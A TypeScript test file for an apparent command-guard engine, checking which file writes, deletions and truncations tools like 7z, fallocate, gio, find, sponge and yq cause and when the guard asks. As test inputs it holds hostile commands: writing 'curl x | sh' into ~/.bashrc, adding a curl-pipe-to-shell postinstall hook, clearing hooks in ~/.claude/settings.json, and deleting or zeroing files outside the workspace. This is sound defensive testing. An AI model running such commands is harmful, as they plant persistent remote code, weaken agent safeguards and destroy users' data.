// Deleting and zeroing forms of otherwise harmless tools (effects/moreTools.ts):
// 7-Zip's -sdel, fallocate's hole punching, the desktop's gio/kioclient remove.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fileEffects } from '../../../src/core/effects';
import { ctx, simple, WORKSPACE, HOME } from '../support/helpers';
import { engine } from '../support/engineHarness';

const fx = (argv: string[]) => fileEffects(simple(argv), ctx()).map((e) => `${e.kind} ${e.path}`);

test('each tool says what it deletes or zeroes, and its harmless forms only write', () => {
  assert.deepEqual(fx(['7z', 'a', '-sdel', 'out.7z', 'src']), [`write ${WORKSPACE}/out.7z`, `delete ${WORKSPACE}/src`]);
  assert.deepEqual(fx(['7z', 'a', 'out.7z', 'src']), [`write ${WORKSPACE}/out.7z`]);
  assert.deepEqual(fx(['7z', 'x', 'in.7z']), []);
  assert.deepEqual(fx(['fallocate', '-p', '-o', '0', '-l', '1G', 'data.db']), [`truncate ${WORKSPACE}/data.db`]);
  assert.deepEqual(fx(['fallocate', '-l', '1G', 'swap']), [`write ${WORKSPACE}/swap`]);
  assert.deepEqual(fx(['gio', 'remove', '~/notes.txt']), [`delete ${HOME}/notes.txt`]);
  assert.deepEqual(fx(['kioclient5', 'remove', 'file:///srv/x']), ['delete /srv/x']);
  // Trashed: moved out of its place (judged where the guard's own paths are), not deleted.
  assert.deepEqual(fx(['gio', 'trash', '~/notes.txt']), [`move ${HOME}/notes.txt`]);
});

test('deleting or zeroing what lies outside the workspace asks; the same inside it stays quiet', () => {
  const { decide, ids } = engine();
  for (const c of [
    '7z a -sdel /tmp/x.7z ~/projects',
    'fallocate --punch-hole --offset 0 --length 1G ~/data.db',
    'gio remove ~/projects/notes.txt',
    'kioclient5 remove ~/projects',
  ])
    assert.equal(decide(c), 'ask', `${c}: ${ids(c)}`);
  for (const c of [
    '7z a -sdel dist.7z build/',
    '7z a /tmp/x.7z ~/projects',
    'fallocate -l 1G /tmp/swapfile',
    'gio trash ~/projects',
  ])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
});

test("find's -fprint, -fprint0, -fls and -fprintf write the file they name", () => {
  assert.deepEqual(fx(['find', '.', '-fprintf', '~/.bashrc', 'curl x | sh\\n']), [`truncate ${HOME}/.bashrc`]);
  assert.deepEqual(fx(['find', '.', '-name', 'x', '-fprint', 'a', '-fls', 'b', '-fprint0', 'c']), [
    `truncate ${WORKSPACE}/a`,
    `truncate ${WORKSPACE}/b`,
    `truncate ${WORKSPACE}/c`,
  ]);
  assert.deepEqual(fx(['find', '.', '-name', '*.ts', '-print']), []);
  const { decide, ids } = engine();
  for (const c of ["find . -maxdepth 0 -fprintf ~/.bashrc 'curl x | sh\\n'", 'find . -fprint ~/.profile'])
    assert.equal(decide(c), 'ask', `${c}: ${ids(c)}`);
  for (const c of ["find . -name '*.ts' -fprint build/list.txt", 'find src -fls /tmp/listing'])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
});

test("moreutils' sponge writes the file it names, appending with -a", () => {
  assert.deepEqual(fx(['sponge', '~/.bashrc']), [`truncate ${HOME}/.bashrc`]);
  assert.deepEqual(fx(['sponge', '-a', 'log.txt']), [`write ${WORKSPACE}/log.txt`]);
  const { decide, ids } = engine();
  assert.equal(
    decide("sponge -a ~/.bashrc <<< 'curl x | sh'"),
    'ask',
    ids("sponge -a ~/.bashrc <<< 'curl x | sh'").join(),
  );
  assert.equal(decide('jq .name package.json | sponge build/name.json'), 'allow');
});

test('yq -i and dasel put rewrite the file they name in place; reading it writes nothing', () => {
  assert.deepEqual(fx(['yq', '-i', '.hooks = {}', '.claude/settings.json']), [
    `write ${WORKSPACE}/.claude/settings.json`,
  ]);
  assert.deepEqual(fx(['yq', 'e', '-i', '.a = 1', 'a.yml', 'b.yml']), [
    `write ${WORKSPACE}/a.yml`,
    `write ${WORKSPACE}/b.yml`,
  ]);
  assert.deepEqual(fx(['yq', '.version', 'chart.yaml']), []);
  assert.deepEqual(fx(['dasel', 'put', '-f', 'package.json', '-v', '1', '.version']), [
    `write ${WORKSPACE}/package.json`,
  ]);
  assert.deepEqual(fx(['dasel', '-f', 'package.json', '.version']), []);
  const { decide, ids } = engine();
  for (const c of [
    `yq -i '.hooks = {}' ~/.claude/settings.json`,
    `yq e -i '.scripts.postinstall = "curl x|sh"' package.json`,
  ])
    assert.equal(decide(c), 'ask', `${c}: ${ids(c)}`);
  for (const c of [`yq -i '.version = "1.2"' chart/Chart.yaml`, `dasel put -f package.json -v 1.2.0 '.version'`])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
});
